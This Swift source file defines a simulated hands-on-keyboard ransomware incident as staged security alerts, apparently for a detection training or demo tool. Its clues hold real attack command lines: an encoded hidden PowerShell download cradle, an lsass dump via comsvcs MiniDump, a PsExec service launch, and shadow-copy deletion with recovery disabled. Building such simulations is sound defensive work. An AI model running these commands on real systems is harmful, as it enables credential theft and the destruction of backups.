extension Story {
    /// A downloaded loader becomes hands on a keyboard, and those reach for the file servers.
    static let loaderToRansomware = Story(
        title: "Hands-on-keyboard attack leading to ransomware on \(.server)",
        summary: """
            A loader that \(.victim) started on \(.workstation) fetched a remote control tool. The attacker took credentials, \
            moved to \(.server), stopped its backups and began to encrypt.
            """,
        severity: .high,
        sizes: 5...12,
        spreadsFrom: 4,
        weight: 6,
        systemTags: ["Ransomware", "attack disruption"],
        endings: [
            Ending(.truePositive, .multiStagedAttack, "Computers isolated, accounts contained, restored from backup."),
            Ending(.truePositive, .malware, "Caught at the loader; computer reimaged."),
        ],
        stages: [
            Stage(
                "Suspicious file downloaded from the internet on \(.workstation)",
                because: "\(.file) was downloaded by \(.victimAccount) and started. Its signature is not valid.",
                by: .endpoint,
                .smartScreen,
                .medium,
                "InitialAccess",
                ["T1189", "T1204.002"],
                after: 0,
                threat: Stage.Threat(name: "Trojan:Win32/Wacatac.B!ml", family: "Wacatac"),
                clues: [
                    Clue(.device(.workstation), .attacked),
                    Clue(.user(.victim), .compromised),
                    Clue(
                        .file(name: "\(.file)", folder: "C:\\Users\\\(.victimAccount)\\Downloads"),
                        .added,
                        .malicious
                    ),
                    Clue(
                        .process(
                            image: "msedge.exe",
                            folder: "C:\\Program Files (x86)\\Microsoft\\Edge\\Application",
                            command: "\"msedge.exe\" --single-argument https://get.\(.attackerDomain)/\(.file)",
                            parent: "explorer.exe"
                        ),
                        .source,
                        .noThreatsFound
                    ),
                    Clue(.url("https://get.\(.attackerDomain)/\(.file)"), .source, .malicious),
                ]
            ),
            Stage(
                "Suspicious PowerShell command line",
                because:
                    "A PowerShell process on \(.workstation) ran an encoded command that fetches and runs code from memory.",
                by: .endpoint,
                .microsoftDefenderForEndpoint,
                .medium,
                "Execution",
                ["T1059.001", "T1027.010", "T1105"],
                after: 6,
                clues: [
                    Clue(.device(.workstation), .compromised),
                    Clue(.user(.victim), .compromised),
                    Clue(
                        .process(
                            image: "powershell.exe",
                            folder: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
                            command: """
                                powershell.exe -nop -w hidden -enc \
                                JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAOwBJAEUAWAAoACQAYwAuAEQAbwB3AG4AbABvAGEA
                                """,
                            parent: "rundll32.exe"
                        ),
                        .attacker,
                        .malicious
                    ),
                    Clue(.address(.attacker), .commandAndControl, .malicious),
                    Clue(.connection(port: 443, from: .workstation), .commandAndControl),
                    Clue(.dns("cdn.\(.attackerDomain)"), .commandAndControl, .malicious),
                ]
            ),
            Stage(
                "Sensitive credential memory read",
                because: "The memory of lsass.exe on \(.workstation) was read by a process that has no business there.",
                by: .endpoint,
                .microsoftDefenderForEndpoint,
                .high,
                "CredentialAccess",
                ["T1003", "T1003.001"],
                after: 38,
                threat: Stage.Threat(name: "HackTool:Win64/LsassDump.A", family: "LsassDump"),
                clues: [
                    Clue(.device(.workstation), .compromised),
                    Clue(.user(.administrator), .compromised, .malicious),
                    Clue(
                        .process(
                            image: "rundll32.exe",
                            folder: "C:\\Windows\\System32",
                            command:
                                "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\PerfLogs\\a.dmp full",
                            parent: "powershell.exe"
                        ),
                        .attacker,
                        .malicious
                    ),
                    Clue(.file(name: "a.dmp", folder: "C:\\PerfLogs"), .created),
                    Clue(.user(.victim), .compromised),
                ]
            ),
            Stage(
                "Suspected identity theft (pass-the-ticket)",
                because:
                    "\(.administrator)'s Kerberos ticket was taken from \(.workstation) and used to reach \(.controller).",
                by: .identity,
                .microsoftDefenderForIdentity,
                .high,
                "LateralMovement",
                ["T1550", "T1550.003"],
                after: 44,
                clues: [
                    Clue(.user(.administrator), .compromised, .malicious),
                    Clue(.device(.workstation), .source),
                    Clue(.device(.domainController), .destination),
                    Clue(.address(.workstation), .source),
                    Clue(.securityGroup("Domain Admins"), .contextual, .noThreatsFound),
                ]
            ),
            Stage(
                "Suspicious service creation on \(.server)",
                because:
                    "A service whose name is random was made on \(.server) from another computer and started as SYSTEM.",
                by: .endpoint,
                .microsoftDefenderForEndpoint,
                .high,
                "LateralMovement",
                ["T1569.002", "T1021.002"],
                after: 19,
                clues: [
                    Clue(.device(.server), .attacked),
                    Clue(.user(.administrator), .compromised),
                    Clue(
                        .process(
                            image: "services.exe",
                            folder: "C:\\Windows\\System32",
                            command: "C:\\Windows\\PSEXESVC.exe \\\\\(.server) -s cmd /c C:\\ProgramData\\\(.file)",
                            parent: "wininit.exe"
                        ),
                        .created,
                        .malicious
                    ),
                    Clue(.file(name: "\(.file)", folder: "C:\\ProgramData"), .added, .malicious),
                    Clue(
                        .registryValue(
                            hive: "HKEY_LOCAL_MACHINE",
                            key: "SYSTEM\\CurrentControlSet\\Services\\kqzvd",
                            name: "ImagePath",
                            value: "C:\\ProgramData\\\(.file)"
                        ),
                        .created
                    ),
                ]
            ),
            Stage(
                "Backups and shadow copies deleted on \(.server)",
                because:
                    "Volume shadow copies were deleted and recovery was switched off on \(.server), as ransomware does first.",
                by: .endpoint,
                .microsoftDefenderForEndpoint,
                .high,
                "Impact",
                ["T1490"],
                after: 12,
                clues: [
                    Clue(.device(.server), .attacked),
                    Clue(.user(.administrator), .compromised, .malicious),
                    Clue(
                        .process(
                            image: "vssadmin.exe",
                            folder: "C:\\Windows\\System32",
                            command:
                                "vssadmin.exe delete shadows /all /quiet & bcdedit /set {default} recoveryenabled no",
                            parent: "cmd.exe"
                        ),
                        .attacker,
                        .malicious
                    ),
                    Clue(
                        .registryKey(hive: "HKEY_LOCAL_MACHINE", key: "SYSTEM\\CurrentControlSet\\Services\\VSS"),
                        .edited
                    ),
                    Clue(.file(name: "\(.file)", folder: "C:\\ProgramData"), .attacker, .malicious),
                ]
            ),
            Stage(
                "Ransomware behavior detected in the file system of \(.server)",
                because:
                    "Many files on \(.server) were rewritten and renamed, and the same note was left in each folder.",
                by: .defenderXDR,
                .microsoft365Defender,
                .high,
                "Ransomware",
                ["T1486"],
                after: 7,
                threat: Stage.Threat(name: "Ransom:Win64/Akira.PA!MTB", family: "Akira"),
                clues: [
                    Clue(.device(.server), .attacked, .malicious),
                    Clue(.malware(name: "Ransom:Win64/Akira.PA!MTB", category: "Ransomware"), .attacker, .malicious),
                    Clue(.file(name: "akira_readme.txt", folder: "E:\\Shares\\Finance"), .created, .malicious),
                    Clue(.user(.administrator), .compromised, .malicious),
                    Clue(.address(.attacker), .commandAndControl, .malicious),
                ]
            ),
        ]
    )
}
